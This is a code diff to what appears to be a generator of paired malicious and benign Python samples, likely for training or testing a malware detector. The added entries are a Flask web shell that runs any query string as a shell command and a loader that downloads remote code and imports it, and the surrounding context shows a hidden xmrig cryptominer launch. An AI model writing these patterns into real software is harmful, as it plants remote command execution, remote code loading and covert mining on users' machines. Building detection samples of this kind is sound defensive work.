@@ -137,6 +137,17 @@ export const PY_REMOTE: Readonly<Record<string, PyDeed>> = {
         `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.default())\n@client.event\n${block('async def on_message(m):', "await m.channel.send('hello')")}\nclient.run(token)`,
       ),
   },
+  'server-shell': {
+    bad: (w) =>
+      `from flask import Flask, request\napp = Flask(__name__)\n@app.route('/q')\n${block('def answer():', `return ${w.fn('subprocess', 'getoutput')}(request.args.get('q'))`)}\napp.run(host='0.0.0.0', port=5044)`,
+    twin: () =>
+      `from flask import Flask, request\napp = Flask(__name__)\n@app.route('/q')\n${block('def answer():', "return 'asked for ' + request.args.get('q')")}`,
+  },
+  'fetch-write-import': {
+    bad: (w, t) =>
+      `d = ${w.fn('tempfile', 'mkdtemp')}()\nwith ${w.builtin('open')}(d + '/wire_7f.py', 'wb') as out:\n    out.write(${fetched(w, t, '/m.py')})\n${w.fn('sys', 'path')}.append(d)\nimport wire_7f`,
+    twin: pinned,
+  },
   miner: {
     bad: (w, t) =>
       `${w.fn('subprocess', 'Popen')}([${w.text('./xmrig')}, '-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'])`,
